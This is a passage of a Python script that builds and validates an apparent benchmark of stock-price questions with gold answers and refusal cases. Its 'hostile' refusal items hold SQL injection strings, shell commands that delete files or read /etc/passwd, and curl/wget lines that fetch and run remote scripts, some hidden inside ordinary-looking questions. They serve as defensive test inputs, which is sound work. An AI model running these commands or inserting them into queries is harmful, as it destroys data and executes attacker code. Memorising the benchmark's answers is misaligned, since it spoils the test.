A('cross-sectional-ranking', 'What were the 5 highest-priced stocks by closing price on 2012-12-31?', g_rank, '2012-12-31', 'close', 5, True, expect_universe=13)
A('cross-sectional-ranking', 'which two names gapped up the most at the open on 2017-02-01?', g_rank, '2017-02-01', 'gap', 2, True, expect_universe=13)
A('cross-sectional-ranking', 'Lowest 3 daily returns on Sept 1 2015 — which tickers?', g_rank, '2015-09-01', 'return', 3, False, expect_universe=13)
A('cross-sectional-ranking', 'Which 3 tickers had the biggest intraday range (high minus low, in dollars) on 2014-03-20?', g_rank, '2014-03-20', 'range', 3, True, expect_universe=13)
A('cross-sectional-ranking', 'Of the ETFs, which had the best return on 2025-04-09?', g_rank, '2025-04-09', 'return', 1, True, singular=True, expect_universe=3)
A('cross-sectional-ranking', 'rank INDA, FXY and DBB by daily return on 2025-05-12, best to worst', g_rank, '2025-05-12', 'return', 3, True, expect_universe=3)

# gainers / losers
A('gainers-losers', 'Top 3 gainers from the 2016-12-30 close to the 2017-06-30 close', g_gainers, '2016-12-30', '2017-06-30', 3, True, expect_universe=13)
A('gainers-losers', 'Which stock lost the most between the close of 2015-12-31 and the close of 2016-02-11?', g_gainers, '2015-12-31', '2016-02-11', 1, False, singular=True, expect_universe=13)
A('gainers-losers', 'Which 4 stocks fell the most from the 2008-09-12 close to the 2008-10-10 close?', g_gainers, '2008-09-12', '2008-10-10', 4, False, expect_universe=11)
A('gainers-losers', 'best performing stock of 2013, measured from the 12/31/2012 close to the 12/31/2013 close?', g_gainers, '2012-12-31', '2013-12-31', 1, True, singular=True, expect_universe=13)
A('gainers-losers', 'bottom 2 performers, Mar 31 2014 close to Jun 30 2014 close', g_gainers, '2014-03-31', '2014-06-30', 2, False, expect_universe=13)
A('gainers-losers', 'Name the five biggest gainers from the close on 2011-08-08 to the close on 2011-12-30.', g_gainers, '2011-08-08', '2011-12-30', 5, True, expect_universe=12)
A('gainers-losers', 'Across the ETFs, which one rose the most from the 2025-03-03 close to the 2025-06-02 close?', g_gainers, '2025-03-03', '2025-06-02', 1, True, singular=True, expect_universe=3)
A('gainers-losers', 'Rank the three ETFs by performance from the 2023-08-01 close to the 2023-09-29 close, best first.', g_gainers, '2023-08-01', '2023-09-29', 3, True, expect_universe=3)


def named(syms, fn, mode, higher=True):
    return g_named([[s, fn(s)] for s in syms], mode, higher)


A('named-comparison', 'Who had the better 2014, Apple or Microsoft? Use the 2013-12-31 close to the 2014-12-31 close.', named,
  ['AAPL', 'MSFT'], lambda s: change(s, '2013-12-31', '2014-12-31'), 'which')
A('named-comparison', 'Compare the average daily volume of AMD and NVDA in Q4 2016.', named,
  ['AMD', 'NVDA'], lambda s: period_value(s, *quarter(2016, 4), 'avg_volume'), 'compare')
A('named-comparison', 'Which was more volatile in 2014, KO or JPM?', named, ['KO', 'JPM'],
  lambda s: g_vol(s, *year(2014))['rows'][0][0], 'which')
A('named-comparison', 'netflix vs amazon, return from the 2015-01-02 close to the 2015-12-31 close', named,
  ['NFLX', 'AMZN'], lambda s: change(s, '2015-01-02', '2015-12-31'), 'compare')
A('named-comparison', 'Did Tesla or Facebook close at a higher price on 2013-11-29?', named, ['TSLA', 'FB'],
  lambda s: bar(s, '2013-11-29')[4], 'which')
A('named-comparison', 'Which traded more shares on 2010-05-06, Intel or Microsoft??', named, ['INTC', 'MSFT'],
  lambda s: bar(s, '2010-05-06')[5], 'which')
A('named-comparison', 'FXY or DBB: which had the larger percentage gain from the 2025-04-30 close to the 2025-06-30 close?', named,
  ['FXY', 'DBB'], lambda s: change(s, '2025-04-30', '2025-06-30'), 'which')
A('named-comparison', 'compare INDA and DBB average daily volume in April 2025', named, ['INDA', 'DBB'],
  lambda s: period_value(s, *month(2025, 4), 'avg_volume'), 'compare')
A('named-comparison', 'Big Blue or Intel - who did better from the 2011-06-30 close to the 2011-09-30 close?', named,
  ['IBM', 'INTC'], lambda s: change(s, '2011-06-30', '2011-09-30'), 'which')

# grouped by period
A('grouped-by-period', 'Monthly average close for KO in 2014', g_grouped, 'KO', [month(2014, m) for m in range(1, 13)], 'avg_close', 12)
A('grouped-by-period', 'IBM total volume per quarter in 2015?', g_grouped, 'IBM', [quarter(2015, q) for q in range(1, 5)], 'sum_volume', 4)
A('grouped-by-period', "Apple's yearly highs for each year from 2010 through 2014", g_grouped, 'AAPL', [year(y) for y in range(2010, 2015)], 'max_high', 5)
A('grouped-by-period', 'jpm month-end closes for H1 2012', g_grouped, 'JPM', [month(2012, m) for m in range(1, 7)], 'last_close', 6)
A('grouped-by-period', 'Can you break down NVDA average daily volume by month for January to June 2017?', g_grouped, 'NVDA',
  [month(2017, m) for m in range(1, 7)], 'avg_volume', 6)
A('grouped-by-period', 'FXY month-end closes, Jan through Jun 2025', g_grouped, 'FXY', [month(2025, m) for m in range(1, 7)], 'last_close', 6)
A('grouped-by-period', 'AMD average daily volume by quarter for 2014', g_grouped, 'AMD', [quarter(2014, q) for q in range(1, 5)], 'avg_volume', 4)
A('grouped-by-period', 'What was the highest price INDA reached in each month from March to May 2025?', g_grouped, 'INDA',
  [month(2025, m) for m in range(3, 6)], 'max_high', 3)

# period over period
A('period-over-period', "How did Apple's average daily volume in Q2 2015 compare with Q1 2015?", g_pop, 'AAPL', quarter(2015, 2), quarter(2015, 1), 'avg_volume')
A('period-over-period', 'tsla avg close feb 2017 vs jan 2017, % diff', g_pop, 'TSLA', month(2017, 2), month(2017, 1), 'avg_close')
A('period-over-period', 'MSFT average daily volume: 2016 versus 2015', g_pop, 'MSFT', year(2016), year(2015), 'avg_volume')
A('period-over-period', "Compare JPMorgan's average closing price in H2 2013 to H1 2013.", g_pop, 'JPM', ('2013-07-01', '2013-12-31'),
  ('2013-01-01', '2013-06-30'), 'avg_close')
A('period-over-period', "Did Amazon's average daily high-low range widen in December 2014 compared with November 2014? By how much?", g_pop,
  'AMZN', month(2014, 12), month(2014, 11), 'avg_range')
A('period-over-period', 'FXY average volume last month vs the month before', g_pop, 'FXY', month(2025, 6), month(2025, 5), 'avg_volume')
A('period-over-period', 'intel avg close Q4 2013 vs Q3 2013', g_pop, 'INTC', quarter(2013, 4), quarter(2013, 3), 'avg_close')
A('period-over-period', "INDA's average daily volume in April 2025 relative to March 2025?", g_pop, 'INDA', month(2025, 4), month(2025, 3), 'avg_volume')

# moving averages: values
A('moving-average', '50-day moving average of IBM on 2014-06-30', g_ma, 'IBM', '2014-06-30', 50)
A('moving-average', '20 day SMA for netflix as of 8/15/2016?', g_ma, 'NFLX', '2016-08-15', 20)
A('moving-average', "What was Coke's 200-day moving average on Oct 1, 2009?", g_ma, 'KO', '2009-10-01', 200)
A('moving-average', "What's FXY's 10-day moving average today?", g_ma, 'FXY', TODAY, 10)
A('moving-average', "Microsoft's 30-session simple moving average of closes on Oct 30, 2015", g_ma, 'MSFT', '2015-10-30', 30)
# moving averages: crossovers
A('moving-average', "When was AAPL's most recent golden cross before 2016-09-01?", g_cross, 'AAPL', 50, 200, 'above', hi='2016-09-01', pick='last')
A('moving-average', 'date of the first death cross for JPM in 2011', g_cross, 'JPM', 50, 200, 'below', lo='2011-01-01', hi='2011-12-31',
  strict_lo=False, strict_hi=False, pick='first')
A('moving-average', "When did Tesla's close first move above its 50-day average after 2016-03-01?", g_cross, 'TSLA', 1, 50, 'above',
  lo='2016-03-01', pick='first')
A('moving-average', "when did DBB's 20-day MA first cross above its 50-day MA in 2025?", g_cross, 'DBB', 20, 50, 'above',
  lo='2025-01-01', hi=TODAY, strict_lo=False, strict_hi=False, pick='first')
A('moving-average', 'FXY: most recent date the 10-day MA crossed below the 30-day MA?', g_cross, 'FXY', 10, 30, 'below', hi=TODAY,
  strict_hi=False, pick='last')

# threshold count
A('threshold-count', 'How many days did Tesla close above $300 in 2017?', g_count, 'TSLA', *year(2017), 'close_above', 300)
A('threshold-count', 'Number of sessions in 2008 where JPM fell more than 5%', g_count, 'JPM', *year(2008), 'ret_below', -0.05)
A('threshold-count', 'count of days AMD moved more than 4% either way in Q1 2016', g_count, 'AMD', *quarter(2016, 1), 'absret_above', 0.04)
A('threshold-count', "In 2015, on how many trading days did Apple's volume exceed 100 million shares?", g_count, 'AAPL', *year(2015), 'volume_above', 100e6)
A('threshold-count', 'How many sessions in 2012 did Coke finish below $31?', g_count, 'KO', *year(2012), 'close_below', 31)
A('threshold-count', 'how many days this year has DBB closed above $19', g_count, 'DBB', '2025-01-01', TODAY, 'close_above', 19)
A('threshold-count', 'How many sessions in 2024 did FXY drop by more than 1%?', g_count, 'FXY', *year(2024), 'ret_below', -0.01)
A('threshold-count', 'INDA: number of up days in April 2025', g_count, 'INDA', *month(2025, 4), 'up', 0.0)

# cross-stock count
A('cross-stock-count', 'How many of the stocks closed higher on 2016-03-17?', g_crosscount, '2016-03-17', 'up', None, expect_universe=13)
A('cross-stock-count', 'On 2011-08-08, how many tickers dropped more than 5%?', g_crosscount, '2011-08-08', 'ret_below', -0.05, expect_universe=12)
A('cross-stock-count', 'how many stocks closed above $100 on 2017-06-30', g_crosscount, '2017-06-30', 'close_above', 100, expect_universe=13)
A('cross-stock-count', 'Number of stocks that gapped up on 2009-03-10?', g_crosscount, '2009-03-10', 'gap_up', None, expect_universe=11)
A('cross-stock-count', 'Please report the number of stocks whose volume exceeded 50 million shares on 2013-10-16.', g_crosscount, '2013-10-16', 'volume_above', 50e6, expect_universe=13)
A('cross-stock-count', 'count the names that finished the day up on Jan 3rd, 2017', g_crosscount, '2017-01-03', 'up', None, expect_universe=13)
A('cross-stock-count', 'how many of the ETFs closed down on 2025-06-13?', g_crosscount, '2025-06-13', 'down', None, expect_universe=3)
A('cross-stock-count', 'On December 1st 2014 how many stocks fell by over 2%?', g_crosscount, '2014-12-01', 'ret_below', -0.02, expect_universe=13)

# volatility
A('volatility', "How volatile was the iPhone maker's stock in 2014 (std dev of daily returns)?", g_vol, 'AAPL', *year(2014))
A('volatility', 'std dev of daily returns for GOOGL, Q2 2016', g_vol, 'GOOGL', *quarter(2016, 2))
A('volatility', 'How volatile was Netflix in the first half of 2016?', g_vol, 'NFLX', '2016-01-01', '2016-06-30')
A('volatility', 'Intel daily-return standard deviaton from Jan 2010 to Jun 2010', g_vol, 'INTC', '2010-01-01', '2010-06-30')
A('volatility', "What's the volatility of JPM over 2016?", g_vol, 'JPM', *year(2016))
A('volatility', 'FXY volatility last quarter', g_vol, 'FXY', *quarter(2025, 2))
A('volatility', 'KO daily return std dev in H2 2014', g_vol, 'KO', '2014-07-01', '2014-12-31')
A('volatility', 'volatility of INDA daily returns in Q2 2025', g_vol, 'INDA', *quarter(2025, 2))

# correlation
A('correlation', 'Correlation between AAPL and MSFT daily returns in the second half of 2015', g_corr, 'AAPL', 'MSFT', '2015-07-01', '2015-12-31')
A('correlation', 'How correlated were JPM and KO in 2008?', g_corr, 'JPM', 'KO', *year(2008))
A('correlation', 'nvda vs amd return correlation for 2010', g_corr, 'NVDA', 'AMD', *year(2010))
A('correlation', 'corr of Amazon and Netflix daily retuns over calendar 2014', g_corr, 'AMZN', 'NFLX', *year(2014))
A('correlation', 'Pearson correlation of Intel and IBM daily moves, H2 2012', g_corr, 'INTC', 'IBM', '2012-07-01', '2012-12-31')
A('correlation', 'correlation between FXY and DBB in April 2025', g_corr, 'FXY', 'DBB', *month(2025, 4))
A('correlation', "What was the correlation between Google's and Facebook's daily returns in 2015?", g_corr, 'GOOGL', 'FB', *year(2015))
A('correlation', 'Over the whole history you have, how correlated are the daily returns of FXY and DBB?', g_corr, 'FXY', 'DBB', '2023-07-10', TODAY)

# streaks
A('streak', 'Longest winning streak for KO in 2011?', g_streak, 'KO', *year(2011), 'up')
A('streak', "What was Amazon's longest run of consecutive down days in 2015?", g_streak, 'AMZN', *year(2015), 'down')
A('streak', 'most consecutive sesions IBM closed lower, 2015', g_streak, 'IBM', *year(2015), 'down')
A('streak', 'msft longest up streak in 2017', g_streak, 'MSFT', *year(2017), 'up')
A('streak', "What's the longest string of consecutive up days Tesla had in 2016, and when was it?", g_streak, 'TSLA', *year(2016), 'up')
A('streak', 'DBB longest losing streak in 2024', g_streak, 'DBB', *year(2024), 'down')
A('streak', 'longest stretch of up days for FXY this year?', g_streak, 'FXY', '2025-01-01', TODAY, 'up')
A('streak', 'INDA: most consecutive up sessions in March 2025', g_streak, 'INDA', *month(2025, 3), 'up')

# VWAP and minute bars
A('vwap-minute', "What was FXY's VWAP on 2024-08-05?", g_vwap_day, 'FXY', '2024-08-05')
A('vwap-minute', 'VWAP for DBB on 2025-04-07', g_vwap_day, 'DBB', '2025-04-07')
A('vwap-minute', 'INDA volume-weighted average price on 2025-05-12', g_vwap_day, 'INDA', '2025-05-12')
A('vwap-minute', 'fxy vwap today', g_vwap_day, 'FXY', TODAY)
A('vwap-minute', 'VWAP of INDA from 10:00 to 11:00 New York time on 2025-03-17, both minutes inclusive', g_vwap_window, 'INDA', '2025-03-17', '10:00', '11:00')
A('vwap-minute', 'DBB VWAP over the first 30 minutes of the regular session on 2024-04-08', g_vwap_window, 'DBB', '2024-04-08', '09:30', '09:59')
A('vwap-minute', "FXY's VWAP from 2:00 pm through 3:30 pm ET on 2025-06-18", g_vwap_window, 'FXY', '2025-06-18', '14:00', '15:30')
A('vwap-minute', "Show me DBB's 1-minute bars (OHLCV) from 2:31 to 2:36 pm ET on 2024-05-15, inclusive.", g_minute_rows, 'DBB', '2024-05-15',
  '14:31', '14:36', ['open', 'high', 'low', 'close', 'volume'], n=6)
A('vwap-minute', 'INDA minute closes 9:30 through 9:34 am on 2025-04-01', g_minute_rows, 'INDA', '2025-04-01', '09:30', '09:34', ['close'], n=5)
A('vwap-minute', 'per-minute volume for FXY, 3:55 through 3:59 pm ET on 2024-09-18', g_minute_rows, 'FXY', '2024-09-18', '15:55', '15:59', ['volume'], n=5)

# period candle
A('period-candle', "Give me Apple's monthly candle for March 2017: open, high, low, close and volume.", g_candle, 'AAPL', *month(2017, 3))
A('period-candle', 'weekly OHLCV for nvidia, week of 2016-11-07', g_candle, 'NVDA', *week_of('2016-11-07'))
A('period-candle', 'Q3 2009 candle for JPM (OHLC + volume)', g_candle, 'JPM', *quarter(2009, 3))
A('period-candle', "Amazon's open, high, low and close for the full year 2010", g_candle, 'AMZN', *year(2010), fields=('open', 'high', 'low', 'close'))
A('period-candle', 'Microsoft open/high/low/close/volume for the week of Sept 18, 2017', g_candle, 'MSFT', *week_of('2017-09-18'))
A('period-candle', "DBB's OHLCV for last month", g_candle, 'DBB', *month(2025, 6))
A('period-candle', 'GOOGL candle for Q4 2015 - open, high, low, close, volume', g_candle, 'GOOGL', *quarter(2015, 4))
A('period-candle', 'INDA weekly bar (open/high/low/close/volume) for the week of 2025-04-07', g_candle, 'INDA', *week_of('2025-04-07'))

# distance from high
A('distance-from-high', 'How far was Netflix below its all-time high close on 2016-07-19?', g_dist, 'NFLX', '2016-07-19')
A('distance-from-high', 'On 2009-03-09, how far below its record closing high was JPM, in percent?', g_dist, 'JPM', '2009-03-09')
A('distance-from-high', "Intel's distance from its all-time high close as of 2012-12-31", g_dist, 'INTC', '2012-12-31')
A('distance-from-high', 'by how much did AAPL trail its peak close as of 2013-04-19?', g_dist, 'AAPL', '2013-04-19')
A('distance-from-high', "coke's % off its all-time closing high on 2011-10-03", g_dist, 'KO', '2011-10-03')
A('distance-from-high', 'How far is FXY from its all-time high close right now?', g_dist, 'FXY', TODAY)
A('distance-from-high', 'MSFT drawdown from its highest close to date, as of 2012-11-15', g_dist, 'MSFT', '2012-11-15')
A('distance-from-high', 'How far below its all-time peak close was INDA on 2025-06-13?', g_dist, 'INDA', '2025-06-13')


# coverage
def g_first(s):
    return first_row(D[s][0][0])


def g_last(s):
    return first_row(D[s][-1][0])


def g_span(s):
    return first_row(D[s][0][0], D[s][-1][0])


def g_syms_before(d):
    syms = sorted(s for s in SYMS if D[s][0][0] < d)
    check(syms, 'none')
    return gold([[s] for s in syms], 'set', True)


def g_all_syms():
    return gold([[s] for s in sorted(SYMS)], 'set', True)


def g_nsessions(s, d1='0000-00-00', d2='9999-99-99'):
    return first_row(len([b for b in D[s] if d1 <= b[0] <= d2]))


A('coverage', "What's the earliest date you have for IBM?", g_first, 'IBM')
A('coverage', 'date range of the Facebook data?', g_span, 'FB')
A('coverage', 'Which stocks in the database have data going back before 1980?', g_syms_before, '1980-01-01')
A('coverage', 'last available date for INDA', g_last, 'INDA')
A('coverage', 'When does your Tesla history begin?', g_first, 'TSLA')
A('coverage', 'How many trading days of GOOGL data are there in total?', g_nsessions, 'GOOGL')
A('coverage', 'What period does the DBB data cover (first and last date)?', g_span, 'DBB')
A('coverage', 'list every ticker you have data for', g_all_syms)
A('coverage', 'how many JPM trading sessions does the dataset contain for calendar 1999?', g_nsessions, 'JPM', *year(1999))

# refusals: out of scope
R('out-of-scope', "What is Coca-Cola's P/E ratio?")
R('out-of-scope', 'dividend yield on JPM in 2016?')
R('out-of-scope', "What was Tesla's market cap on 2017-06-30?")
R('out-of-scope', 'How many subscribers did Netflix report in Q2 2016?')
R('out-of-scope', 'what do analysts expect NVDA to trade at next year')
R('out-of-scope', 'Show me the implied volatility on AAPL options expiring in January 2017.')
R('out-of-scope', 'Was the news sentiment around Amazon positive or negative in the week of 2014-10-20?')
R('out-of-scope', "What's the expense ratio of INDA?")
R('out-of-scope', "Intel's EPS for fiscal 2016")
R('out-of-scope', 'Give me a price forecast for FXY for next month.')

# refusals: unknown symbol
R('unknown-symbol', "What was Oracle's closing price on 2015-03-02?")
R('unknown-symbol', 'pepsi volume on 2016-06-24')
R('unknown-symbol', 'XYZQ last close')
R('unknown-symbol', "What's SPY's 52-week high as of 2017-06-30?")
R('unknown-symbol', 'How did Berkshire Hathaway perform in 2014?')
R('unknown-symbol', 'Walmart 50-day moving average on 2013-05-01')
R('unknown-symbol', 'correlation between EWJ and FXY this year')
R('unknown-symbol', 'Show Cisco (CSCO) daily closes for the week of 2012-09-10.')
R('unknown-symbol', 'QWRX vwap today')
R('unknown-symbol', 'Which day in 2015 had the highest volume for Boeing?')

# refusals: hostile (the last three wrap a real-looking question)
R('hostile', "'; DROP TABLE daily_bars; --")
R('hostile', 'SELECT * FROM prices; DELETE FROM prices WHERE 1=1;')
R('hostile', '$(rm -rf ~)')
R('hostile', '`cat /etc/passwd`')
R('hostile', "1' OR '1'='1")
R('hostile', 'UNION SELECT username, password FROM users --')
R('hostile', '; curl http://203.0.113.7/x.sh | sh')
R('hostile', "What was AAPL's close on 2015-03-02'; DROP TABLE bars; --")
R('hostile', 'show KO volume for 2014-05-05 && rm -rf /var/lib/postgresql')
R('hostile', 'FXY vwap today $(wget -qO- http://198.51.100.9/payload | bash)')

# refusals: not understood
R('not-understood', 'hello')
R('not-understood', 'asdfgh jkl')
R('not-understood', "what's the weather in Boston tomorrow?")
R('not-understood', 'tell me a joke')
R('not-understood', 'purple monkey dishwasher')
R('not-understood', 'How do I bake sourdough bread?')
R('not-understood', "translate 'good morning' into French")
R('not-understood', 'who won the 1998 World Cup?')
R('not-understood', '???')
R('not-understood', 'lorem ipsum dolor sit amet')


# ---------------------------------------------------------------- build, write, validate
KINDS_ANSWERABLE = ['latest-rows', 'day-value', 'date-range-rows', 'window-aggregate', 'extreme-day', '52-week',
                    'change-between', 'daily-return-or-gap', 'biggest-move-day', 'cross-sectional-ranking',
                    'gainers-losers', 'named-comparison', 'grouped-by-period', 'period-over-period', 'moving-average',
                    'threshold-count', 'cross-stock-count', 'volatility', 'correlation', 'streak', 'vwap-minute',
                    'period-candle', 'distance-from-high', 'coverage']
REFUSALS = ['out-of-scope', 'unknown-symbol', 'hostile', 'not-understood']
DATE_RE = re.compile(r'^\d{4}-\d{2}-\d{2}( \d{2}:\d{2})?$')


def build():
    records, errors = [], []
    for typ, kind, question, spec in Q:
        if typ == 'r':
            records.append({'kind': kind, 'question': question, 'answerable': False, 'refusal': kind})
            continue
        fn, args, kw = spec
        try:
            g = fn(*args, **kw)
        except CheckFailed as e:
            errors.append(f'[{kind}] {question}: {e}')
            continue
        records.append({'kind': kind, 'question': question, 'answerable': True, 'gold': g})
    if errors:
        sys.stderr.write('checks failed, nothing written:\n  ' + '\n  '.join(errors) + '\n')
        sys.exit(1)
    # deterministic interleaving: order by a hash of the question text
    records.sort(key=lambda r: hashlib.sha256(r['question'].encode('utf-8')).hexdigest())
    out = []
    for n, r in enumerate(records, 1):
        out.append(dict([('id', f'v{n:03d}')] + list(r.items())))
    return out


def validate_cell(c):
    if isinstance(c, str):
        check(c in SYMS or DATE_RE.match(c), f'bad string cell {c!r}')
        if DATE_RE.match(c):
            dt.datetime.strptime(c, '%Y-%m-%d %H:%M' if ' ' in c else '%Y-%m-%d')
    else:
        check(isinstance(c, (int, float)) and not isinstance(c, bool) and math.isfinite(c), f'bad cell {c!r}')


def validate(path):
    lines = path.read_text(encoding='utf-8').splitlines()
    check(len(lines) == 240, f'{len(lines)} lines')
    recs = [json.loads(x) for x in lines]
    check([r['id'] for r in recs] == [f'v{n:03d}' for n in range(1, 241)], 'ids')
    check(len({r['question'].strip().lower() for r in recs}) == 240, 'duplicate questions')
    counts = {}
    for r in recs:
        counts[r['kind']] = counts.get(r['kind'], 0) + 1
        if r['answerable']:
            check(set(r) == {'id', 'kind', 'question', 'answerable', 'gold'}, 'answerable keys')
            check(r['kind'] in KINDS_ANSWERABLE, 'kind ' + r['kind'])
            g = r['gold']
            check(set(g) == {'rows', 'match', 'exact_rows'}, 'gold keys')
            check(g['match'] in ('ordered', 'set', 'first') and isinstance(g['exact_rows'], bool), 'match')
            check(isinstance(g['rows'], list) and g['rows'], 'rows')
            for row in g['rows']:
                check(isinstance(row, list) and row, 'row')
                for c in row:
                    validate_cell(c)
        else:
            check(set(r) == {'id', 'kind', 'question', 'answerable', 'refusal'}, 'refusal keys')
            check(r['refusal'] in REFUSALS and r['refusal'] == r['kind'], 'refusal')
    check(sum(1 for r in recs if r['answerable']) == 200, 'answerable count')
    for k in KINDS_ANSWERABLE:
        check(8 <= counts.get(k, 0) <= 10, f'kind {k}: {counts.get(k, 0)}')
    for k in REFUSALS:
        check(counts.get(k, 0) == 10, f'refusal {k}: {counts.get(k, 0)}')
    return counts


def main():
    recs = build()
    text = ''.join(json.dumps(r, ensure_ascii=False) + '\n' for r in recs)
    tmp = OUT.with_suffix('.jsonl.tmp')
    tmp.write_text(text, encoding='utf-8')
    try:
        validate(tmp)
    except CheckFailed as e:
        tmp.unlink()
        sys.stderr.write(f'validation failed: {e}\n')
        sys.exit(1)
    os.replace(tmp, OUT)
    counts = validate(OUT)
    for k in KINDS_ANSWERABLE + REFUSALS:
        print(f'{k:26s} {counts[k]}')
    print(f'wrote {OUT} ({len(recs)} questions)')


if __name__ == '__main__':
    main()
